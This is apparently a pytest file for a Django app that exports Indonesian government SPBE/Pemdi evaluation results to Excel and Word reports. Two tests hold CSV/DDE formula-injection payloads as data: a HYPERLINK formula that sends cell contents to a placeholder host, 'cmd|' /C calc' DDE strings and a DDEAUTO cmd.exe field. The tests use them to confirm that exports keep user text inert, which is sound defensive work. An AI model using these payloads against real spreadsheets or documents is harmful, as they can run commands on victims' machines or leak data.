import datetime
import io

import docx
import openpyxl
import pytest

from sia.evaluation import exports, services
from sia.evaluation.choices import TeamRole
from sia.evaluation.models import AssessmentTeamMember
from sia.evaluation.uploads import attach_file

from .conftest import pdf_upload

pytestmark = pytest.mark.django_db


def test_xlsx_has_one_row_per_indicator_with_levels_per_stage(world, assessment, framework):
    attach_file(assessment, framework.indicators.get(number=11), pdf_upload(), user=world.users["assessor"],
                title="Dokumen Arsitektur SPBE")
    services.advance_stage(assessment, user=world.users["admin"])
    services.set_level(assessment, framework.indicators.get(number=43), 2, user=world.users["assessor"],
                       fakta="Dokumen belum lengkap", analisis="Hanya sebagian", justifikasi="Turun satu tingkat")
    book = openpyxl.load_workbook(io.BytesIO(exports.assessment_xlsx(assessment)))
    sheet = book["Indikator"]
    header = [c.value for c in sheet[1]]
    assert header[:9] == ["No", "Domain", "Aspek", "Indikator", "Bobot (%)", "Penilaian mandiri", "Penilaian dokumen",
                          "Penilaian interviu", "Hasil akhir"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 47 and [r[0] for r in rows] == list(range(1, 48))
    by_number = {r[0]: r for r in rows}
    assert by_number[11][3] == "Tingkat Kematangan Arsitektur SPBE Instansi Pusat/Pemerintah Daerah"
    assert by_number[11][4] == 2.5 and by_number[11][5:9] == (2, 2, None, None)
    assert by_number[11][header.index("Berkas bukti dukung")] == "Indikator11a-Dokumen_Arsitektur_SPBE.pdf"
    assert by_number[43][5:7] == (3, 2) and by_number[43][header.index("Fakta")] == "Dokumen belum lengkap"
    summary = [row for row in book["Ringkasan"].iter_rows(values_only=True) if row and row[0]]
    stages = {row[0]: row for row in summary if row[0] in ("Penilaian mandiri", "Penilaian dokumen")}
    assert stages["Penilaian mandiri"][1:4] == (2.49, "2.49", "Cukup")
    assert stages["Penilaian dokumen"][1:4] == (2.46, "2.46", "Cukup")
    assert stages["Penilaian dokumen"][6] == -0.03


def test_berita_acara_is_ready_to_sign(world, assessment):
    AssessmentTeamMember.objects.create(assessment=assessment, user=world.users["admin"], role=TeamRole.LEAD)
    world.users["admin"].first_name, world.users["admin"].last_name = "Rahmat", "Koordinator"
    world.users["admin"].save()
    services.lock_stage(assessment, user=world.users["admin"])
    content = exports.berita_acara_docx(assessment, day=datetime.date(2024, 6, 3))
    document = docx.Document(io.BytesIO(content))
    text = "\n".join(p.text for p in document.paragraphs)
    assert "BERITA ACARA PENILAIAN MANDIRI" in text
    assert "PEMERINTAH PROVINSI CONTOH TAHUN 2024" in text
    assert "Pada hari ini Senin, tanggal 3 Juni 2024" in text and "PermenPANRB 59/2020" in text
    assert "DRAF" not in text
    results, team, indicators, signature = document.tables
    cells = {row.cells[0].text: row.cells[1].text for row in results.rows}
    assert cells["Indeks SPBE (penilaian mandiri)"] == "2,49" and cells["Predikat"] == "Cukup"
    assert cells["Indeks Domain 1. Kebijakan Internal SPBE"] == "2,50"
    members = [[c.text for c in row.cells] for row in team.rows[1:]]
    assert ["1", "Rahmat Koordinator", "Penanggung jawab (Koordinator SPBE)", ""] in members
    assert ["2", "asesor1", "Anggota Tim Evaluator", ""] in members
    assert len(indicators.rows) == 48
    eleven = [c.text for c in indicators.rows[11].cells]
    assert eleven == ["11", "Tingkat Kematangan Arsitektur SPBE Instansi Pusat/Pemerintah Daerah", "2,50", "2", "Terkelola"]
    assert "(Rahmat Koordinator)" in signature.rows[0].cells[1].text


def test_berita_acara_of_an_open_stage_is_marked_as_draft(world, framework):
    from .conftest import make_assessment

    assessment = make_assessment(world, framework, levels={1: 3})
    document = docx.Document(io.BytesIO(exports.berita_acara_docx(assessment)))
    text = "\n".join(p.text for p in document.paragraphs)
    assert "DRAF" in text and "belum diisi dan dihitung pada tingkat 1" in text


INJECTIONS = {
    "fakta": '=HYPERLINK("https://contoh.invalid/?x="&A1,"Klik")',
    "analisis": "+1+cmd|' /C calc'!A0",
    "justifikasi": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_xlsx_user_text_stays_text(world, assessment, framework):
    services.set_level(assessment, framework.indicators.get(number=11), 3, user=world.users["assessor"], **INJECTIONS)
    world.inst.name = "=1+1 Pemerintah Provinsi Contoh"
    world.inst.save()
    assessment.refresh_from_db()
    book = openpyxl.load_workbook(io.BytesIO(exports.assessment_xlsx(assessment)))
    sheet = book["Indikator"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == 11)
    for field, label in (("fakta", "Fakta"), ("analisis", "Analisis"), ("justifikasi", "Justifikasi")):
        cell = row[header.index(label)]
        assert (cell.value, cell.data_type) == (INJECTIONS[field], "s"), field
    name = book["Ringkasan"]["B1"]
    assert (name.value, name.data_type) == ("=1+1 Pemerintah Provinsi Contoh", "s")
    assert all(c.data_type != "f" for sheet in book for r in sheet.iter_rows() for c in r)


def test_docx_user_text_stays_text(world, assessment):
    member = world.users["assessor"]
    member.first_name, member.last_name = '=HYPERLINK("https://contoh.invalid")', "{ DDEAUTO c:\\\\cmd.exe }"
    member.save()
    content = exports.berita_acara_docx(assessment)
    document = docx.Document(io.BytesIO(content))
    names = [row.cells[1].text for row in document.tables[1].rows[1:]]
    assert '=HYPERLINK("https://contoh.invalid") { DDEAUTO c:\\\\cmd.exe }' in names
    import zipfile

    xml = zipfile.ZipFile(io.BytesIO(content)).read("word/document.xml").decode()
    assert "instrText" not in xml and "fldSimple" not in xml and "fldChar" not in xml  # text runs only


def test_berita_acara_is_dated_the_day_the_stage_was_locked(world, assessment, settings):
    lock = services.lock_stage(assessment, user=world.users["admin"])
    # 3 June 2024 20:00 UTC is Tuesday 4 June 03:00 in Jakarta (the project time zone)
    lock.locked_at = datetime.datetime(2024, 6, 3, 20, 0, tzinfo=datetime.timezone.utc)
    lock.save()
    assessment.refresh_from_db()
    document = docx.Document(io.BytesIO(exports.berita_acara_docx(assessment)))
    text = "\n".join(p.text for p in document.paragraphs)
    assert settings.TIME_ZONE == "Asia/Jakarta"
    assert "Pada hari ini Selasa, tanggal 4 Juni 2024" in text and "DRAF" not in text
    assert document.tables[-1].rows[0].cells[1].text.startswith("4 Juni 2024")


def test_berita_acara_of_an_open_stage_is_dated_today(world, assessment):
    from django.utils import timezone

    document = docx.Document(io.BytesIO(exports.berita_acara_docx(assessment)))
    text = "\n".join(p.text for p in document.paragraphs)
    assert f"tanggal {exports.date_id(timezone.localdate())}" in text and "DRAF" in text


def test_exports_show_four_decimals_where_two_would_contradict_the_predicate(world, framework):
    from .conftest import DEMO_LEVELS, make_assessment

    assessment = make_assessment(world, framework, levels=dict(DEMO_LEVELS) | {11: 3, 12: 3, 38: 3, 47: 3})
    document = docx.Document(io.BytesIO(exports.berita_acara_docx(assessment)))
    cells = {row.cells[0].text: row.cells[1].text for row in document.tables[0].rows}
    assert (cells["Indeks SPBE (penilaian mandiri)"], cells["Predikat"]) == ("2,5975", "Cukup")
    book = openpyxl.load_workbook(io.BytesIO(exports.assessment_xlsx(assessment)))
    row = next(r for r in book["Ringkasan"].iter_rows() if r[0].value == "Penilaian mandiri")
    assert (row[1].value, row[1].number_format, row[3].value) == (2.5975, "0.0000", "Cukup")


# --- PermenPANRB 8/2026: no domains, values with two decimals, its names ------------------------------------


def test_pemdi_xlsx_has_aspects_without_domains_values_and_sources(world):
    from .pemdi_fixtures import pemdi_assessment

    assessment = pemdi_assessment(world)
    book = openpyxl.load_workbook(io.BytesIO(exports.assessment_xlsx(assessment)))
    sheet = book["Indikator"]
    header = [c.value for c in sheet[1]]
    assert header[:5] == ["No", "Aspek", "Indikator", "Bobot (%)", "Penilaian mandiri"] and "Domain" not in header
    rows = {r[0]: r for r in sheet.iter_rows(min_row=2, values_only=True)}
    assert list(rows) == [f"I{n}" for n in range(1, 21)]
    assert rows["I1"][1] == "Tata Kelola dan Manajemen" and rows["I1"][4] == 2.75
    assert sheet.cell(2, 5).number_format == "0.00"
    source, year, note = (header.index(h) for h in ("Indeks sumber", "Tahun indeks sumber", "Catatan nilai"))
    assert (rows["I5"][4], rows["I5"][source], rows["I5"][year]) == (3.75, 68.75, 2025)
    assert rows["I7"][note] == "belum ada nilai indeks sumber; dihitung 1,00"
    assert sheet.freeze_panes == "D2"
    summary = [row for row in book["Ringkasan"].iter_rows(values_only=True) if row and row[0]]
    assert ("Nama indeks", "Indeks Pemdi") == summary[3][:2]
    heading = next(row for row in summary if row[0] == "Tahap")
    assert heading[1] == "Indeks Pemdi"
    mandiri = next(row for row in summary if row[0] == "Penilaian mandiri")
    assert mandiri[1:4] == (1.4, "1.397", "Kurang")
    aspects = {row[0]: row[1:3] for row in summary if str(row[0]).startswith("Aspek ")}
    assert len(aspects) == 7 and aspects["Aspek 3. Data"] == (15, 2.2) and aspects["Aspek 1. Tata Kelola dan Manajemen"] == (10, 2.88)
    assert not any(str(row[0]).startswith("Domain") for row in summary)
    assert exports.xlsx_name(assessment) == f"penilaian-pemdi-{world.inst.code}-2026.xlsx"


def test_pemdi_berita_acara_uses_the_instruments_names(world):
    from .pemdi_fixtures import pemdi_assessment

    assessment = pemdi_assessment(world)
    AssessmentTeamMember.objects.create(assessment=assessment, user=world.users["admin"], role=TeamRole.LEAD)
    document = docx.Document(io.BytesIO(exports.berita_acara_docx(assessment, day=datetime.date(2026, 6, 8))))
    text = "\n".join(p.text for p in document.paragraphs)
    assert "EVALUASI KINERJA PEMERINTAH DIGITAL" in text and "SPBE" not in text
    assert "Tim Asesor Internal PEMERINTAH PROVINSI CONTOH".lower() in text.lower() and "20 indikator Indeks Pemdi" in text
    assert "Indikator I5: SDI 68,75 (2025) → 3,75." in text
    assert "Indikator I6: SJIG 3,2 (2025) → 2,40 (nilai diisi asesor; konversi tidak diketahui)." in text
    assert "Indikator I7: belum ada nilai indeks sumber (IPS); dihitung 1,00." in text
    results, team, indicators, signature = document.tables
    cells = {row.cells[0].text: row.cells[1].text for row in results.rows}
    assert cells["Indeks Pemdi (penilaian mandiri)"] == "1,40" and cells["Predikat"] == "Kurang"
    assert cells["Indeks Aspek 1. Tata Kelola dan Manajemen"] == "2,88" and cells["Indeks Aspek 6. Keterpaduan Layanan Digital Pemerintah"] == "1,20"
    assert not any(key.startswith("Indeks Domain") for key in cells)
    assert [c.text for c in indicators.rows[0].cells] == ["No", "Indikator", "Bobot (%)", "Nilai", "Tingkat"]
    assert [c.text for c in indicators.rows[1].cells][0::3] == ["I1", "2,75"]
    assert indicators.rows[1].cells[4].text == "3 · Berkembang"
    assert "(Koordinator Pemdi)" in signature.rows[0].cells[1].text


def test_59_2020_berita_acara_keeps_its_names(world, assessment):
    document = docx.Document(io.BytesIO(exports.berita_acara_docx(assessment, day=datetime.date(2024, 6, 3))))
    text = "\n".join(p.text for p in document.paragraphs)
    assert "EVALUASI SISTEM PEMERINTAHAN BERBASIS ELEKTRONIK (SPBE)" in text and "Tim Evaluator" in text
    assert "(Koordinator SPBE)" in document.tables[-1].rows[0].cells[1].text
